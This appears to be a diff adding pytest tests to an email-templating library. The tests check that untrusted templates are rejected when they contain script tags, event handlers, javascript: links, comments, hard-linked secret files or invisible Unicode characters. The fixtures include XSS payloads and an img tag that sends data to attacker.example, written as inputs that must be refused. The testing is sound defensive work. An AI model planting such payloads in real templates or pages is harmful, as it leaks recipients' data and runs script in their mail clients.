@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import os
+import re
 from pathlib import Path
 
 import jinja2
@@ -349,3 +351,90 @@ class TestEscaped:
         write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}x{{ c }}y")
         with pytest.raises(followup.TemplateError, match=f"U\\+{ord(char):04X}"):
             render("probe", {"c": char}, locale=EN, template_dirs=(tmp_path,))
+
+
+class TestTheirMarkup:
+    """A template from someone else writes only the HTML a letter needs."""
+
+    @pytest.mark.parametrize(
+        ("body", "says"),
+        [
+            ("<script>alert(1)</script>", "element <script>"),
+            ('<img src="https://attacker.example/?at={{ company|urlencode }}">', "element <img>"),
+            ('<p onclick="x()">Hi</p>', "attribute 'onclick'"),
+            ('<p style="background:url(https://e.example)">Hi</p>', "attribute 'style'"),
+            ('<a href="javascript:alert(1)">x</a>', "not a web or mail address"),
+            ("<!-- x -->", "comment"),
+            ("<p>Hi</p><img src=x", "unfinished HTML tag"),
+            ("<svg><a href='https://e.example'>x</a></svg>", "element <svg>"),
+        ],
+    )
+    def test_anything_but_a_letters_elements_is_refused(
+        self, tmp_path: Path, body: str, says: str
+    ) -> None:
+        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}" + body)
+        with pytest.raises(followup.TemplateError, match=re.escape(says)):
+            render("probe", {"company": "Acme"}, locale=EN, template_dirs=(tmp_path,))
+
+    def test_a_letters_elements_pass(self, tmp_path: Path) -> None:
+        body = (
+            '<div lang="en" dir="ltr"><p>Dear <strong>Dana</strong>,<br>'
+            '<a href="https://example.org/?a=1&amp;b=2">a link</a> and 1 &lt; 2.</p>'
+            "<ul><li>one</li></ul></div>"
+        )
+        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}" + body)
+        html = render("probe", {}, locale=EN, template_dirs=(tmp_path,)).html
+        assert "<strong>Dana</strong>" in html
+
+    @pytest.mark.parametrize("char", ["\u202e", "\u2066", "\ufeff", "\u200b", "\u00ad"])
+    def test_no_invisible_formatting_character_from_a_template(
+        self, tmp_path: Path, char: str
+    ) -> None:
+        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}x{{ c }}y")
+        with pytest.raises(followup.TemplateError, match=f"U\\+{ord(char):04X}"):
+            render("probe", {"c": char}, locale=EN, template_dirs=(tmp_path,))
+
+    def test_the_joiners_scripts_need_pass(self, tmp_path: Path) -> None:
+        write(tmp_path, "probe.j2", "{% set subject %}s{% endset %}{{ c }}")
+        text = render("probe", {"c": "a\u200cb\u200dc"}, locale=EN, template_dirs=(tmp_path,))
+        assert text.text == "a\u200cb\u200dc"
+
+    def test_a_subject_is_one_line_of_sensible_length(self, tmp_path: Path) -> None:
+        write(tmp_path, "probe.j2", "{% set subject %}{{ 'a' * 401 }}{% endset %}x")
+        with pytest.raises(followup.TemplateError, match="at most 400"):
+            render("probe", {}, locale=EN, template_dirs=(tmp_path,))
+
+    def test_a_hard_linked_template_is_refused(self, tmp_path: Path) -> None:
+        secret = tmp_path / "secret.txt"
+        secret.write_text("TOKEN=sk-123", encoding="utf-8")
+        folder = tmp_path / "templates"
+        folder.mkdir()
+        os.link(secret, folder / "sig.j2")
+        write(folder, "probe.j2", '{% set subject %}s{% endset %}{% include "sig.j2" %}')
+        with pytest.raises(followup.TemplateError, match="hard link"):
+            render("probe", {}, locale=EN, template_dirs=(folder,))
+
+    def test_followups_own_names_cannot_be_shadowed(self, tmp_path: Path) -> None:
+        write(
+            tmp_path, "probe.j2", "{% set subject %}s{% endset %}{% set __followup_stepped = 1 %}"
+        )
+        with pytest.raises(followup.TemplateError, match="may not use the name"):
+            render("probe", {}, locale=EN, template_dirs=(tmp_path,))
+
+
+def test_every_format_character_but_the_joiners_is_unshown() -> None:
+    """The list in followup._text is written out by hand; Unicode has it all."""
+    import sys
+    import unicodedata
+
+    from followup._text import UNSHOWN
+
+    for code in range(sys.maxunicode + 1):
+        char = chr(code)
+        category = unicodedata.category(char)
+        expected = (category == "Cc" and char not in "\n\t") or (
+            category in ("Cf", "Zl", "Zp") and char not in "\u200c\u200d"
+        )
+        matched = UNSHOWN.match(char) is not None
+        # Newer Unicode versions may assign more format characters: the list has them.
+        assert matched == expected or (matched and category == "Cn"), f"U+{code:04X} {category}"
